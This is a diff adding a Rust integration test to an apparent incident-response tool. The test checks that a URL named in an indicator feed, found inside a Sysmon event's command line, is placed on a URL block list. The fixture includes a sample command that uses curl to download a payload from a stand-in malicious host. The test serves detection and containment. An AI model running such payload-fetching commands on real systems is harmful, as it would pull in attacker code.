@@ -237,3 +237,39 @@ fn insufficient_evidence_names_what_was_left_out_rather_than_deny_it() {
     assert_eq!(techniques, 0);
     assert!(text.contains(": no ATT&CK technique"), "{text}");
 }
+
+/// An indicator URL found in a command line (no field named "url") is put
+/// on the URL block list with the indicator as its reason; it was in no
+/// list at all, though the host was isolated for it.
+#[test]
+fn a_url_an_indicator_names_is_block_listed_wherever_the_event_held_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let ev = dir.path().join("ev.jsonl");
+    std::fs::write(
+        &ev,
+        r#"{"@timestamp":"2024-01-01T10:00:00Z","Computer":"ws01","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Users\\a\\evil.exe","CommandLine":"curl http://bad.example.net/payload.bin"}"#,
+    )
+    .unwrap();
+    let feed = dir.path().join("feed.txt");
+    std::fs::write(&feed, "http://bad.example.net/payload.bin\n").unwrap();
+    let out = dir.path().join("out");
+    let status = Command::new(env!("CARGO_BIN_EXE_kahu"))
+        .args(["-q", "assess", "--no-case", "--ioc"])
+        .arg(&feed)
+        .arg(&ev)
+        .arg("--out")
+        .arg(&out)
+        .output()
+        .unwrap();
+    assert!(
+        status.status.success(),
+        "{}",
+        String::from_utf8_lossy(&status.stderr)
+    );
+    let list = std::fs::read_to_string(out.join("containment/blocklist-urls.csv")).unwrap();
+    let row = list
+        .lines()
+        .find(|l| l.starts_with("http://bad.example.net/payload.bin,"))
+        .unwrap_or_else(|| panic!("URL not block-listed:\n{list}"));
+    assert!(row.contains("named by indicator"), "{row}");
+}
